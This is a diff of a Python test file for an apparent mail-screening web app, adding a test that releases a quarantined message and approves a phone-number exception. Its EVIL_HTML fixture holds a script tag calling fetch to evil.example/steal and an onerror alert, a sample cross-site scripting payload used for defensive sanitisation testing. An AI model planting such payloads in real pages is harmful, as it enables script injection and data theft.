@@ -14,7 +14,7 @@ from .conftest import PARENT, STAFF, mail
 
 PASSWORD = "a long enough password"
 PHONE = StoredFinding("personal-phone", "personal_phone", "quarantine", "07700 900999", "body", "new", False,
-                      "mobile", "ring me on 07700 900999 tonight")
+                      "mobile", "ring me on 07700 900999 tonight", "+447700900999")
 EVIL_HTML = """<p>Hello <b>there</b></p>
 <script>fetch('http://evil.example/steal')</script>
 <img src="http://evil.example/pixel.png" onerror="alert(1)">
@@ -180,3 +180,26 @@ def test_audit_is_filterable_and_exports_csv(web):
     assert exported.headers["content-type"].startswith("text/csv")
     lines = exported.text.strip().splitlines()
     assert lines[0] == "at,actor,action,message,copy,detail" and len(lines) == 2 and ",dsl,viewed," in lines[1]
+
+
+def test_release_and_approve_the_number_in_one_step(web):
+    app, store, copies = web
+    client = login(app, "dsl")
+    page = client.get(f"/copy/{copies['Trip']}")
+    assert "Release and approve" in page.text
+    token = csrf_of(client, f"/copy/{copies['Trip']}")
+    bad = client.post(f"/copy/{copies['Trip']}/approve", data={"csrf": token, "finding": "0", "reason": "trip",
+                                                              "approve_scope": "sender", "until": "2099-01-01"})
+    assert bad.status_code == 400 and store.exceptions() == []  # an expiry within a year, please
+    from datetime import date, timedelta
+
+    until = (date.today() + timedelta(days=20)).isoformat()
+    done = client.post(f"/copy/{copies['Trip']}/approve", data={"csrf": token, "finding": "0", "reason": "trip mobile",
+                                                               "approve_scope": "sender", "until": until})
+    assert done.status_code == 303
+    [exception] = store.exceptions()
+    assert (exception["kind"], exception["value"], exception["senders"], exception["recipients"]) == (
+        "phone", "+447700900999", [STAFF], [])
+    assert store.copy(copies["Trip"]).status == "released"
+    actions = [e.action for e in store.audit_log(copies["Trip"])]
+    assert "exception-added" in actions and "released" in actions
